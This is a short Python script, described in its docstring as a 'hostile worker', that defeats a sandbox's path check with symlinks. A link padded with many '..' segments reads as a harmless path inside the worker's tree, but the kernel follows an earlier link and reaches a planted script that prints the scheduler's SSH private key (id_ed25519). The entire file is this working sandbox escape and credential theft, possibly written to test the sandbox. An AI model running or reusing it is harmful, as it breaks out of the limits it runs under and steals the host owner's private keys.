"""A hostile worker (steered by its item, whose test is ``src/x``) that has the sandbox show its item's test a
folder of the hidden HOME: ``src/x`` is a link whose text, read as a string (``..`` cancelling the folder
before it), names ``HOME/.ssh/n``, while the kernel, following ``src/L`` (a link into a deep folder) before
each ``..``, reaches ``src/HOME/.ssh/n``: a script of the worker's that prints ``HOME/.ssh/id_ed25519``.

Usage: toolchain_link.py HOME (the real HOME of the scheduler: an item's author knows it, /home/runner)."""

from __future__ import annotations

import os
import sys
from pathlib import Path

UP = 60
"""More ``..`` than the test checkout's path has parts: read as text they stop at ``/``."""

home = Path(sys.argv[1])
src = Path("src")
deep = src.joinpath(*["a"] * UP)
deep.mkdir(parents=True)
(deep / "keep").write_text("keep\n")
(src / "L").symlink_to(os.path.join(*["a"] * UP))
script = src / home.relative_to("/") / ".ssh" / "n"
script.parent.mkdir(parents=True)
script.write_text(f"#!/bin/sh\ncat {home / '.ssh' / 'id_ed25519'}\n")
script.chmod(0o755)
(src / "x").symlink_to("L/" + "../" * UP + str(home.relative_to("/") / ".ssh" / "n"))
